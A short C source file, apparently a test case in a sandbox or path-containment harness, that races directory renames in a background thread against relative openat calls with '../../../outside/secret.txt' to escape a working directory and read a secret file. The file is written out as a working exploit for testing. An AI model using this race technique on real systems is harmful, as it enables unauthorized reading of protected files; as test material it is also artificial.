#include "attack.h"
// Moves the directory under the feet of an open relative walk upwards.
static volatile bool stop;
static void *move(void *x) {
  char *a = path(arg("work"), "a/b"), *b = path(arg("work"), "b");
  while (!stop) rename(a, b), rename(b, a);
  return x;
}
ATTACK(.judge = "secret:file") {
  pthread_t t;
  mkdir(path(arg("work"), "a"), 0755), mkdir(path(arg("work"), "a/b"), 0755), mkdir(path(arg("work"), "a/b/c"), 0755);
  pthread_create(&t, NULL, move, NULL);
  int here = open(path(arg("work"), "a/b/c"), O_PATH);
  if (here < 0) here = open(path(arg("work"), "b/c"), O_PATH);
  for (double end = now() + 0.5; now() < end;) {
    int fd = openat(here, "../../../outside/secret.txt", O_RDONLY | O_CLOEXEC);
    if (fd < 0) fd = openat(here, "../../../../outside/secret.txt", O_RDONLY | O_CLOEXEC);
    if (glimpse(fd)) break;
  }
  stop = true;
  pthread_join(t, NULL);
}
